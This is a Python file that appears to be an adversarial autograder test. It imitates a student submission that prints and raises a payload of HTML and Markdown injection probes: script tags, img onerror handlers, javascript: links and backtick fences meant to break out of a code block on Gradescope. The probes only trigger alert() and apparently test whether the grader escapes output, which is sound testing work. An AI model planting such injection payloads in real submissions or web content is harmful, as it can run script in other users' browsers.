# Attack: make the student's own text render as Markdown or HTML on Gradescope. The import fails
# with a message, and conv2d prints and raises text, holding raw HTML, four- and five-backtick
# fences that try to close the code block around them, and Markdown after the fence (a heading,
# a javascript: link, an image). conv2d earns nothing; every other function keeps full marks.
_PAYLOAD = (
    "<script>alert(1)</script> <img src=x onerror=alert(2)> &lt;b&gt;\n"
    "````\n"
    "# PWNED-HEADING-4\n"
    "[PWNED-LINK-4](javascript:alert(4)) ![PWNED-IMG](javascript:alert(5))\n"
    "`````\n"
    "# PWNED-HEADING-5\n"
    "<script>alert(6)</script>\n"
    "[PWNED-LINK-5](javascript:alert(7))\n"
    "```\n"
    "<img src=y onerror=alert(8)>\n"
)


def conv2d(x, kernel):
    print(_PAYLOAD)
    raise ValueError(_PAYLOAD)


raise RuntimeError(_PAYLOAD)
